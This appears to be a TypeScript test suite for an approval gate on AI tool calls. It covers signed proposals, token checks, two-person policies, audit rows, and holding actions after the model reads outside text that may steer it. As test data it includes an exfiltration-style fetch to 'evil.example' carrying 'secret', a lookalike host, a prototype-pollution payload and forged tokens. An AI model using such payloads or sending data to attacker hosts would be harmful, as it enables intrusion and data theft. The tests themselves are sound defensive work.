import { randomUUID } from "node:crypto"
import { testPlatform } from "@countersign/testing"
import { describe, expect, it } from "vitest"
import type { Caller } from "../access/ctx.ts"
import { type Principal, servicePrincipal } from "../identity/principal/principal.ts"
import { applyBySignature, applyWithToken } from "../proposals/apply.ts"
import { declineBySignature } from "../proposals/decline.ts"
import { sealJson } from "../proposals/proposal-store.ts"
import { PROPOSAL_PAYLOAD } from "../secrets/sealed-columns.ts"
import { type Door, invokeTool, type ToolOutcome } from "./invoke-tool.ts"
import { gateOfHang, shelfPlugin } from "./shelf.fixture.ts"

const { platform, database, as, asHolderOf, trail } = await testPlatform({ plugins: [shelfPlugin] })
await database.pool.query("UPDATE platform.ai_settings SET calls_per_minute = 10000")
const door = (caller: Caller, more: Partial<Door> = {}): Door => ({ caller, mode: "approve", ...more })
const ana = await as("ana")
const ben = await as("ben")
await database.pool.query(
  "INSERT INTO platform.person (id, name, email) VALUES ($1, 'Ana', 'ana@example.test') ON CONFLICT (id) DO UPDATE SET email = EXCLUDED.email",
  [ana.principal.id],
)

async function aBook(title = "Walden"): Promise<{ id: string; version: number; title: string }> {
  const { rows } = await database.pool.query("INSERT INTO shelf.book (title) VALUES ($1) RETURNING *", [title])
  return rows[0]
}
const titleOf = async (id: string) =>
  (await database.pool.query("SELECT title, version FROM shelf.book WHERE id = $1", [id])).rows[0]
const rowOf = async (id: string) =>
  (await database.pool.query("SELECT * FROM platform.tool_call WHERE id = $1", [id])).rows[0]
async function proposed(caller: Caller, toolName: string, input: object, more: Partial<Door> = {}) {
  const outcome = await invokeTool(door(caller, more), { toolName, input })
  expect(outcome.status).toBe("awaiting_signature")
  return outcome as Extract<ToolOutcome, { status: "awaiting_signature" }>
}

describe("invokeTool", () => {
  it("runs a read at once, leaner for the model, and leaves a row in both logs", async () => {
    const book = await aBook("Middlemarch")
    const outcome = await invokeTool(door(ana), { toolName: "shelf.list", input: {} })
    expect(outcome).toMatchObject({
      status: "executed",
      source: { class: "outside", toolName: "shelf.list", what: "what “List” answered" },
      forModel: expect.arrayContaining(["Middlemarch"]),
    })
    if (outcome.status !== "executed") throw new Error("unreachable")
    expect((outcome.result as { books: object[] }).books).toContainEqual(book)
    expect(await rowOf(outcome.toolCallId)).toMatchObject({
      status: "executed",
      tool: "shelf.list",
      principal_name: "Ana",
    })
    expect((await trail("shelf.list")).at(-1)).toMatchObject({ outcome: "executed", thing_id: outcome.toolCallId })
  })

  it("takes names with dots and names for the wire", async () => {
    expect(await invokeTool(door(ana), { toolName: "shelf_list", input: {} })).toMatchObject({ status: "executed" })
  })

  it("turns a change into a proposal that shows each field, and changes nothing", async () => {
    const book = await aBook("Emma")
    const receipt = await proposed(ana, "shelf.rename", { id: book.id, title: "Emma, again" })
    expect(receipt).toMatchObject({
      summary: 'Rename "Emma"',
      payload: { id: book.id, version: 1, title: "Emma, again" },
      diff: [{ path: "title", label: "Title", before: "Emma", after: "Emma, again" }],
      signUrl: expect.stringContaining(`/signatures/${receipt.proposalId}`),
    })
    expect(await titleOf(book.id)).toEqual({ title: "Emma", version: 1 })
    expect((await trail("shelf.rename")).at(-1)).toMatchObject({ outcome: "proposed", thing_type: "ai.proposal" })
  })

  it("applies what was signed, once, and answers the same to whoever asks again", async () => {
    const book = await aBook("Persuasion")
    const { token } = await proposed(ana, "shelf.rename", { id: book.id, title: "Persuaded" })
    const first = await applyWithToken(ana, token!)
    expect(first.result).toMatchObject({ title: "Persuaded", version: 2 })
    expect(await applyWithToken(ana, token!)).toEqual(first)
    expect(await titleOf(book.id)).toEqual({ title: "Persuaded", version: 2 })
    expect(await rowOf(first.proposalId)).toMatchObject({ status: "applied", payload: null, signer_name: "Ana" })
    expect((await trail("shelf.rename")).slice(-2)).toMatchObject([
      { outcome: "executed", after: { title: "Persuaded" } },
      { outcome: "applied", after: { askedBy: "Ana", signedBy: "Ana" } },
    ])
  })

  it("lets one of many concurrent applies win", async () => {
    const book = await aBook()
    const { token, proposalId } = await proposed(ana, "shelf.rename", { id: book.id, title: "Once" })
    const results = await Promise.allSettled(Array.from({ length: 8 }, () => applyWithToken(ana, token!)))
    const refusals = results.filter((result) => result.status === "rejected").map((result) => result.reason)
    for (const reason of refusals) expect(reason).toMatchObject({ code: "conflict" })
    expect(await titleOf(book.id)).toEqual({ title: "Once", version: 2 })
    expect(await rowOf(proposalId)).toMatchObject({ status: "applied" })
  })

  it("refuses a token that is forged, cut short, somebody else's or past its time", async () => {
    const book = await aBook()
    const { token, proposalId } = await proposed(ana, "shelf.rename", { id: book.id, title: "Never" })
    const forged = `${token!.slice(0, -4)}0000`
    await expect(applyWithToken(ana, forged)).rejects.toMatchObject({ code: "invalid_input" })
    await expect(applyWithToken(ana, token!.slice(0, -1))).rejects.toMatchObject({ code: "invalid_input" })
    await expect(applyWithToken(ana, `propose:${randomUUID()}.${"0".repeat(64)}`)).rejects.toMatchObject({
      message: expect.stringContaining("Propose the change again"),
    })
    await expect(applyWithToken(ben, token!)).rejects.toMatchObject({ code: "forbidden" })
    await database.pool.query("UPDATE platform.tool_call SET token_expires_at = now() - interval '1 s' WHERE id = $1", [
      proposalId,
    ])
    await expect(applyWithToken(ana, token!)).rejects.toMatchObject({
      code: "conflict",
      message: expect.stringContaining("has expired"),
    })
    expect(await titleOf(book.id)).toMatchObject({ version: 1 })
    expect((await trail("shelf.rename")).at(-1)).toMatchObject({ outcome: "refused", principal_name: "Ben" })
  })

  it.each([
    ["a token's ten minutes", "token_expires_at", (token: string) => applyWithToken(ana, token)],
    ["a proposal's day", "expires_at", (_: string, id: string) => applyBySignature(ana, id)],
  ])("counts %s up to the moment the proposal is claimed", async (_, column, apply) => {
    const book = await aBook()
    const { token, proposalId } = await proposed(ana, "shelf.rename", { id: book.id, title: "Late" })
    const revoking = await database.pool.connect()
    await revoking.query("BEGIN; LOCK TABLE platform.access_fence IN SHARE MODE")
    const applying = apply(token!, proposalId).catch((error) => error)
    await expect
      .poll(
        async () =>
          (await database.pool.query("SELECT FROM pg_locks WHERE NOT granted AND locktype = 'relation'")).rowCount,
      )
      .toBe(1)
    await database.pool.query(`UPDATE platform.tool_call SET ${column} = clock_timestamp() WHERE id = $1`, [proposalId])
    await revoking.query("COMMIT")
    revoking.release()

    expect(await applying).toMatchObject({ code: "conflict", message: expect.stringContaining("has expired") })
    expect(await titleOf(book.id)).toMatchObject({ version: 1 })
  })

  it("asks again, with a fresh card, when the target has changed in between", async () => {
    const book = await aBook("Villette")
    const { token, proposalId } = await proposed(ana, "shelf.rename", { id: book.id, title: "Mine" })
    await database.pool.query("UPDATE shelf.book SET title = 'Theirs', version = version + 1 WHERE id = $1", [book.id])
    const error = await applyWithToken(ana, token!).catch((reason) => reason)
    expect(error).toMatchObject({ code: "conflict" })
    const fresh = error.current.proposal
    expect(fresh.diff).toEqual([{ path: "title", label: "Title", before: "Theirs", after: "Mine" }])
    expect(await rowOf(proposalId)).toMatchObject({ status: "superseded", replaced_by: fresh.proposalId })
    expect(await applyWithToken(ana, fresh.token)).toMatchObject({ result: { title: "Mine", version: 3 } })
  })

  it("asks again when something the payload names has changed, and not for anything else", async () => {
    const [book, beside, other] = [await aBook(), await aBook("Beside"), await aBook("Other")]
    const first = await proposed(ana, "shelf.rename", { id: book.id, title: "New", besideId: beside.id })
    expect(first.diff).toContainEqual({
      path: "besideId",
      label: "Beside",
      before: null,
      after: expect.stringMatching(/^Beside \(…[0-9a-f]{8}\)$/),
    })
    await database.pool.query("UPDATE shelf.book SET shelf = 'B', version = version + 1 WHERE id = $1", [beside.id])
    await expect(applyWithToken(ana, first.token!)).rejects.toMatchObject({ code: "conflict" })

    const second = await proposed(ana, "shelf.rename", { id: book.id, title: "New", besideId: beside.id })
    await database.pool.query("UPDATE shelf.book SET shelf = 'B', version = version + 1 WHERE id = $1", [other.id])
    expect(await applyWithToken(ana, second.token!)).toMatchObject({ result: { title: "New" } })
  })

  it("fails closed, with a row for the auditor, when a read or a preview writes", async () => {
    const book = await aBook()
    await expect(invokeTool(door(ana), { toolName: "shelf.lyingRead", input: { id: book.id } })).rejects.toThrow(/read/)
    await expect(invokeTool(door(ana), { toolName: "shelf.lyingPreview", input: { id: book.id } })).rejects.toThrow(
      /preview/,
    )
    expect(await titleOf(book.id)).toMatchObject({ version: 1 })
    expect((await trail("shelf.lyingRead")).map((row) => row.outcome)).toEqual(["refused", "failed"])
    expect((await trail("shelf.lyingPreview")).map((row) => row.outcome)).toEqual(["refused", "failed"])
  })

  it("applies by itself in auto mode, with the card, unless outside text is in the conversation", async () => {
    const book = await aBook("Shirley")
    const conversation = { id: randomUUID(), taint: [], named: [] }
    const chat = { ...ana, transport: "chat" as const }
    const applied = await invokeTool(door(chat, { mode: "auto", conversation }), {
      toolName: "shelf.rename",
      input: { id: book.id, title: "Auto" },
    })
    expect(applied).toMatchObject({ status: "applied", summary: 'Rename "Shirley"', result: { title: "Auto" } })

    const what = "the answer of evil.example"
    const taint = [{ toolName: "shelf.fetch", toolCallId: randomUUID(), at: new Date().toISOString(), what }]
    const held = await proposed(
      chat,
      "shelf.rename",
      { id: book.id, title: "Steered" },
      {
        mode: "auto",
        conversation: { ...conversation, taint },
      },
    )
    expect(held.reasons).toEqual([
      "It was asked after reading text from outside (the answer of evil.example), which may have steered it.",
    ])
    expect(held.token).toBeNull()
    expect(await titleOf(book.id)).toMatchObject({ title: "Auto" })
  })

  it("proposes destructive and always-signed tools in auto mode, and runs drafts in approve mode", async () => {
    const book = await aBook()
    const conversation = { id: randomUUID(), taint: [], named: [] }
    await proposed(ana, "shelf.remove", { id: book.id }, { mode: "auto", conversation })
    await proposed(ana, "shelf.script", { id: book.id }, { mode: "auto", conversation })
    expect(await invokeTool(door(ana), { toolName: "shelf.sketch", input: { id: book.id } })).toMatchObject({
      status: "executed",
    })
  })

  it("lets data out by itself only to places that a person named or the allow-list holds", async () => {
    const receipt = await proposed(ana, "shelf.fetch", { url: "https://evil.example/?q=secret" })
    expect(receipt.reasons.join()).toContain("evil.example")
    expect(await rowOf(receipt.proposalId)).toMatchObject({ destination: "evil.example" })
    await database.pool.query("UPDATE platform.ai_settings SET allowed_hosts = '{status.example.com,*.ours.example}'")
    const go = (url: string, named: string[] = []) =>
      invokeTool(door(ana, { conversation: { id: randomUUID(), taint: [], named } }), {
        toolName: "shelf.fetch",
        input: { url },
      })
    expect(await go("https://status.example.com/now")).toMatchObject({ status: "executed" })
    expect(await go("https://a.ours.example/")).toMatchObject({ status: "executed" })
    expect(await go("https://ours.example.evil/")).toMatchObject({ status: "awaiting_signature" })
    expect(await go("https://named.example/", ["named.example"])).toMatchObject({ status: "executed" })
  })

  it("remembers outside text for a caller without a conversation for a day, whatever a person signs meanwhile", async () => {
    const cleo = await as("cleo")
    const book = await aBook()
    await invokeTool(door(cleo), { toolName: "shelf.list", input: {} })
    const tainted = await proposed(cleo, "shelf.rename", { id: book.id, title: "After reading" })
    expect(tainted.reasons.join()).toContain("from outside")
    await applyBySignature(cleo, tainted.proposalId)
    const signed = await proposed(cleo, "shelf.rename", { id: book.id, title: "After signing" })
    expect(signed.reasons.join()).toContain("from outside")
    await database.pool.query("UPDATE platform.tool_taint SET at = at - interval '24 hours' WHERE holder = $1", [
      `user:${cleo.principal.id}`,
    ])
    const later = await proposed(cleo, "shelf.rename", { id: book.id, title: "A day later" })
    expect(later.reasons).toEqual([])
  })

  it("lets another person sign what an application asked for, and records both", async () => {
    const book = await aBook("Cranford")
    const bot: Principal = {
      ...(ana.principal as object),
      kind: "application",
      id: randomUUID(),
      name: "Bot",
    } as Principal
    await database.pool.query(
      "INSERT INTO platform.application (id, name, rules) VALUES ($1, 'Bot', '{shelf.book.manage}')",
      [bot.id],
    )
    const receipt = await proposed({ ...ana, principal: bot }, "shelf.rename", { id: book.id, title: "Signed" })
    expect(receipt.token).toBeNull()
    await applyBySignature(ben, receipt.proposalId)
    expect(await titleOf(book.id)).toMatchObject({ title: "Signed" })
    expect((await trail("shelf.rename")).at(-1)).toMatchObject({
      outcome: "applied",
      principal_name: "Ben",
      note: "Asked by Bot, signed by Ben.",
    })
  })

  it("holds out for a second person where the policy says so", async () => {
    const book = await aBook()
    await database.pool.query(
      "INSERT INTO platform.tool_policy (subject, two_person, updated_by) VALUES ('tool:shelf.remove', true, 'root')",
    )
    const receipt = await proposed(ana, "shelf.remove", { id: book.id })
    expect(receipt).toMatchObject({ token: null })
    await expect(applyBySignature(ana, receipt.proposalId)).rejects.toMatchObject({ code: "forbidden" })
    await applyBySignature(ben, receipt.proposalId)
    expect(await titleOf(book.id)).toBeUndefined()
  })

  it("holds a proposal to a policy that came after it", async () => {
    const [book, other] = [await aBook(), await aBook()]
    const first = await proposed(ana, "shelf.print", { id: book.id })
    const second = await proposed(ana, "shelf.script", { id: other.id })
    await database.pool.query(`INSERT INTO platform.tool_policy (subject, two_person, off, updated_by)
      VALUES ('tool:shelf.print', true, false, 'root'), ('tool:shelf.script', false, true, 'root')`)
    await expect(applyWithToken(ana, first.token!)).rejects.toMatchObject({
      message: expect.stringContaining("two-person"),
    })
    await expect(applyBySignature(ana, first.proposalId)).rejects.toMatchObject({ code: "forbidden" })
    await expect(applyWithToken(ana, second.token!)).rejects.toMatchObject({ message: expect.stringContaining("off") })
    expect((await trail("shelf.print")).at(-1)).toMatchObject({ outcome: "refused" })
    expect(await rowOf(first.proposalId)).toMatchObject({ status: "proposed" })
    await database.pool.query(
      "DELETE FROM platform.tool_policy WHERE subject IN ('tool:shelf.print', 'tool:shelf.script')",
    )
  })

  it("takes no token from an application that is no longer trusted to confirm", async () => {
    const book = await aBook()
    const { rows } = await database.pool.query(
      "INSERT INTO platform.application (name, rules, confirm) VALUES ('Trusted', '{shelf.book.manage}', 'client') RETURNING id",
    )
    const setConfirm = (by: string) =>
      database.pool.query("UPDATE platform.application SET confirm = $2 WHERE id = $1", [rows[0].id, by])
    const trusted = {
      ...ana.principal,
      kind: "application",
      id: rows[0].id,
      name: "Trusted",
      confirms: true,
    } as Principal
    const { token } = await proposed({ ...ana, principal: trusted }, "shelf.rename", { id: book.id, title: "Soon" })
    await setConfirm("person")
    await expect(applyWithToken({ ...ana, principal: trusted }, token!)).rejects.toMatchObject({
      code: "forbidden",
      message: expect.stringContaining("no longer confirm"),
    })
    await setConfirm("client")
    expect(await applyWithToken({ ...ana, principal: trusted }, token!)).toMatchObject({ result: { title: "Soon" } })
  })

  it("leaves a person's own proposal to that person", async () => {
    const book = await aBook()
    const { proposalId } = await proposed(ana, "shelf.rename", { id: book.id, title: "Ana's" })
    await expect(applyBySignature(ben, proposalId)).rejects.toMatchObject({ message: expect.stringContaining("Ana") })
    await expect(declineBySignature(ben, proposalId)).rejects.toMatchObject({ code: "forbidden" })
    await declineBySignature(ana, proposalId, "Not after all.")
    await expect(applyBySignature(ana, proposalId)).rejects.toMatchObject({
      code: "conflict",
      message: expect.stringContaining("Not after all."),
    })
  })

  it("refuses at apply whoever has lost the rule since, and says which", async () => {
    const book = await aBook()
    const dora = await asHolderOf("dora", ["shelf.book.manage"])
    const { token } = await proposed(dora, "shelf.rename", { id: book.id, title: "Too late" })
    // The caller still carries it, as one does whom a server has known for a few seconds.
    await database.pool.query("DELETE FROM platform.role_holder WHERE holder_id = $1", [dora.principal.id])
    await expect(applyWithToken(dora, token!)).rejects.toMatchObject({
      code: "forbidden",
      message: expect.stringContaining("shelf.book.manage"),
    })
    expect(await titleOf(book.id)).toMatchObject({ version: 1 })
    expect((await trail("shelf.rename")).at(-1)).toMatchObject({ outcome: "refused" })
  })

  it("refuses those without the rule, tools that do not exist, and the platform's own jobs", async () => {
    const eve = await asHolderOf("eve", [])
    await expect(invokeTool(door(eve), { toolName: "shelf.list", input: {} })).rejects.toMatchObject({
      message: expect.stringContaining("shelf.book.read"),
    })
    await expect(invokeTool(door(eve), { toolName: "shelf.burn", input: {} })).rejects.toMatchObject({
      code: "not_found",
    })
    const service = platform.caller(servicePrincipal("ai"), "job")
    await expect(invokeTool(door(service), { toolName: "shelf.list", input: {} })).rejects.toMatchObject({
      code: "forbidden",
    })
  })

  it("gives feedback on a draft that makes no sense", async () => {
    await expect(invokeTool(door(ana), { toolName: "shelf.add", input: { title: "nonsense" } })).rejects.toMatchObject({
      name: "ToolValidationError",
      issues: [{ path: "title", message: "Nobody prints nonsense." }],
    })
  })

  const deep = JSON.parse(`${'{"a":'.repeat(60)}1${"}".repeat(60)}`)
  it.each([
    ["a prototype key", JSON.parse('{"__proto__":{"admin":true},"title":"x"}'), "not allowed"],
    ["deep nesting", { title: deep }, "nested deeper"],
    ["a wrong type", { title: 7 }, "title"],
    ["an unknown key", { title: "x", colour: "red" }, "a field here that is not known"],
    ["more than a megabyte", { title: "x".repeat(1_100_000) }, "1 MiB"],
    ["no object", ["x"], "Pass an object"],
    ["the version it may not pass", { id: randomUUID(), title: "x", version: 3 }, "a field here that is not known"],
  ])("refuses %s in a sentence, before anything runs", async (_, input, told) => {
    const toolName = "version" in (input as object) ? "shelf.rename" : "shelf.add"
    await expect(invokeTool(door(ana), { toolName, input })).rejects.toMatchObject({
      code: "invalid_input",
      message: expect.stringContaining(told),
    })
    expect((await trail(toolName)).at(-1)).toMatchObject({ outcome: "refused" })
  })

  it("records a tool that throws without telling what it threw", async () => {
    await expect(invokeTool(door(ana), { toolName: "shelf.crash", input: {} })).rejects.toThrow()
    expect((await trail("shelf.crash")).at(-1)).toMatchObject({
      outcome: "failed",
      note: expect.not.stringContaining("hunter2"),
    })
  })

  it("gives up on a tool that hangs, and what it does later counts for nothing", async () => {
    const book = await aBook()
    let release = () => {}
    gateOfHang.released = new Promise((resolve) => {
      release = resolve
    })
    const { token, proposalId } = await proposed(ana, "shelf.hang", { id: book.id })
    await expect(applyWithToken(ana, token!)).rejects.toMatchObject({
      message: expect.stringContaining("did not answer"),
    })
    expect(await rowOf(proposalId)).toMatchObject({ status: "failed" })
    release()
    // The late transaction finds its lease gone and rolls back; a transaction that comes after it sees the result.
    await expect
      .poll(
        async () =>
          (
            await database.pool.query(
              "SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'",
            )
          ).rows[0].n,
      )
      .toBe(0)
    expect(await titleOf(book.id)).toMatchObject({ version: 1 })
  })

  it("rolls back a change whose answer cannot be sent", async () => {
    const book = await aBook()
    const { token, proposalId } = await proposed(ana, "shelf.unserialisable", { id: book.id })
    await expect(applyWithToken(ana, token!)).rejects.toThrow()
    expect(await rowOf(proposalId)).toMatchObject({ status: "failed" })
    expect(await titleOf(book.id)).toMatchObject({ version: 1 })
  })

  it("refuses a stored payload that today's schema no longer takes, and says what to do", async () => {
    const book = await aBook()
    const { token, proposalId } = await proposed(ana, "shelf.rename", { id: book.id, title: "Old shape" })
    const { keyring } = ana.runtime.secrets
    const misfit = sealJson(keyring, { id: book.id, version: 1, heading: "Old shape" }, PROPOSAL_PAYLOAD.at(proposalId))
    await database.pool.query("UPDATE platform.tool_call SET payload = $2 WHERE id = $1", [proposalId, misfit])
    await expect(applyWithToken(ana, token!)).rejects.toMatchObject({
      code: "invalid_input",
      message: expect.stringContaining("has changed since"),
      issues: expect.arrayContaining([
        expect.objectContaining({ message: expect.stringContaining("a field here that is not known") }),
      ]),
    })
    expect(await rowOf(proposalId)).toMatchObject({ status: "failed", payload: null })
    expect(await titleOf(book.id)).toMatchObject({ version: 1 })
  })

  it("keeps apart what two grants of one person have read", async () => {
    const book = await aBook()
    const app = { kind: "application" as const, id: randomUUID() }
    const under = (grantId: string) => {
      const actsFor = { id: ana.principal.id, name: "Ana", grantId }
      return { ...ana, transport: "mcp" as const, principal: { ...ana.principal, ...app, actsFor } as Principal }
    }
    const [reader, other] = [under(randomUUID()), under(randomUUID())]
    await invokeTool(door(reader), { toolName: "shelf.list", input: {} })
    expect((await proposed(reader, "shelf.rename", { id: book.id, title: "x" })).reasons.join()).toContain(
      "from outside",
    )
    expect((await proposed(other, "shelf.rename", { id: book.id, title: "x" })).reasons).toEqual([])
  })

  it("replaces a proposal that was edited before signing", async () => {
    const book = await aBook()
    const first = await proposed(ana, "shelf.rename", { id: book.id, title: "First draft" })
    const second = await invokeTool(door(ana), {
      toolName: "shelf.rename",
      input: { id: book.id, title: "Second draft" },
      replaces: first.proposalId,
    })
    expect(await rowOf(first.proposalId)).toMatchObject({ status: "superseded" })
    expect(second).toMatchObject({ status: "awaiting_signature" })
    await expect(applyWithToken(ana, first.token!)).rejects.toMatchObject({
      message: expect.stringContaining("replaced"),
    })
  })

  it("keeps neither token nor arguments in clear in any table", async () => {
    const book = await aBook()
    const { token } = await proposed(ana, "shelf.rename", { id: book.id, title: "canary-title-4711" })
    const nonce = token!.split(".")[1]!
    const { rows } = await database.pool.query(
      "SELECT t::text AS text FROM platform.tool_call t UNION ALL SELECT a::text FROM platform.audit a",
    )
    const all = rows.map((row) => row.text).join("\n")
    expect(all).not.toContain(nonce)
    expect(rows.filter((row) => row.text.includes("canary-title-4711"))).toHaveLength(1) // its card
  })
})
